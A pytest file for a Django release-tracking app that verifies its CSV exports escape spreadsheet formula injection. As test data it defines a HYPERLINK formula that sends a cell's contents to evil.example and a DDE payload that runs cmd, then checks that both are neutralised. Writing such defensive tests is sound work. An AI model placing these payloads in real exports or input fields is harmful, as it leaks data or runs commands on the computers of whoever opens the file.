"""Every CSV the app writes is safe to open in a spreadsheet (#14 item 3)."""

import copy
import csv
import io

import pytest
from django.urls import reverse

from releasehub.core.csv import safe_cell, stream_csv, write_csv
from releasehub.metrics.importer import import_actor, import_history
from tests.factories import readiness_reference_data
from tests.metrics.history import HISTORY, dep

MARCH = {"start": "2025-03-01", "end": "2025-03-30"}
# The two payloads of the issue: a link that leaks the sheet, a DDE command.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        # Numbers stay numbers, a negative one too: it is a value, not a formula.
        (-5, -5),
        (2.5, 2.5),
        (0, 0),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_kept(value, written):
    assert safe_cell(value) == written


def test_the_writer_and_the_stream_write_the_same_safe_rows():
    rows = [[DDE, -3, 1.5, "ok"]]
    buffer = io.StringIO()
    write_csv(buffer, ["a", "b", "c", "d"], rows)
    streamed = "".join(stream_csv(["a", "b", "c", "d"], iter(rows)))
    assert buffer.getvalue() == streamed
    assert list(csv.reader(io.StringIO(streamed)))[1] == ["'" + DDE, "-3", "1.5", "ok"]


@pytest.fixture
def hostile_history(db):
    """The issue's payloads where a user can write them: incident titles, a release version."""
    readiness_reference_data()
    data = copy.deepcopy(HISTORY)
    data["incidents"][0]["title"] = HYPERLINK
    data["incidents"][3]["title"] = DDE
    data["incidents"][0]["caused_by"]["version"] = DDE
    data["releases"][1]["version"] = DDE
    data["releases"][2]["fixes"]["version"] = DDE
    data["releases"][1]["deployments"] = [dep("identity", "03-05", "10:00", "10:20", mi=3)]
    import_history(data, actor=import_actor())


def _rows(client, name: str) -> list[dict]:
    response = client.get(reverse(name), MARCH)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_incident_titles_cannot_run_in_a_spreadsheet(client, hostile_history, leader):
    client.force_login(leader)
    rows = {r["key"]: r for r in _rows(client, "metrics:incidents_csv")}
    assert rows["INC-1"]["title"] == "'" + HYPERLINK
    assert rows["INC-4"]["title"] == "'" + DDE
    assert rows["INC-1"]["caused_by_release"] == "'" + DDE
    assert rows["INC-3"]["title"] == "Token refresh loop"


def test_deployment_rows_are_quoted_and_counts_stay_numbers(client, hostile_history, leader):
    client.force_login(leader)
    rows = [r for r in _rows(client, "metrics:deployments_csv") if r["target"] == "identity"]
    hostile = next(r for r in rows if r["release"] == "'" + DDE)
    assert hostile["manual_interventions"] == "3"
    # Times start with a digit, and an offset's "+" is inside the cell: left alone.
    assert hostile["started_at"] == "2025-03-05T10:00:00+05:30"
